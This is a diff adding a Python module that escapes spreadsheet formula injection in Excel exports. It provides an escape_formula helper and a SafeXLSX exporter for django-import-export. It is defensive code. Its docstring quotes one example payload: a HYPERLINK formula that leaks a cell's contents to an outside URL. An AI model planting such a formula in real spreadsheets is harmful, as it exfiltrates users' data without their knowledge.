@@ -1,0 +1,30 @@
+"""Cells written into spreadsheets for staff: text that a spreadsheet would
+run as a formula is written as text.
+
+A name such as ``=HYPERLINK("http://…?leak="&C2,"点击查看")`` typed by a
+manager becomes a live formula in the staff member's Excel, which can send
+other cells' contents away. Every export (the admin's, through ``SafeXLSX``;
+the portal's own workbooks, through ``escape_formula``) writes such text with
+a leading apostrophe, which Excel shows as text.
+"""
+
+from import_export.formats.base_formats import XLSX
+
+#: A text cell starting with one of these would run as a formula.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def escape_formula(value):
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+class SafeXLSX(XLSX):
+    """django-import-export's Excel format with every text cell escaped on
+    export (the library's own switch only strips a leading "=")."""
+
+    def export_data(self, dataset, **kwargs):
+        for index in range(dataset.height):
+            dataset[index] = tuple(escape_formula(cell) for cell in dataset[index])
+        return super().export_data(dataset, **kwargs)
